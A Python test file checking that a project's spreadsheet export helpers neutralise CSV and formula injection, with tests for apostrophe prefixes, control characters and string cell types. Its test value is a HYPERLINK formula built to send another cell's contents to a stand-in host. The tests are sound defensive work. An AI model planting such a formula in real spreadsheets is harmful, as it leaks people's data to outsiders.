"""Spreadsheet cells: text that a spreadsheet would run stays text (OWASP CSV injection)."""

import io

from openpyxl import Workbook, load_workbook

from relief.core.cells import safe_cell, xlsx_cell

FORMULA = '=HYPERLINK("http://x/?"&F2,"Xem")'


def test_csv_text_that_starts_like_a_formula_gets_an_apostrophe():
    for text in (FORMULA, "+84912345678", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\x07=1"):
        assert safe_cell(text).startswith("'"), text
    assert safe_cell("Hoàng\x07 Văn") == "Hoàng Văn"
    assert safe_cell(-5) == -5 and safe_cell(None) is None


def test_xlsx_text_is_a_string_cell_and_control_characters_do_not_break_the_file():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append([xlsx_cell(sheet, v) for v in (FORMULA, "Hoàng\x07Văn", 60_000_000)])
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = list(load_workbook(io.BytesIO(buffer.getvalue())).active[1])
    assert [(c.value, c.data_type) for c in cells] == [
        (FORMULA, "s"),
        ("HoàngVăn", "s"),
        (60_000_000, "n"),
    ]
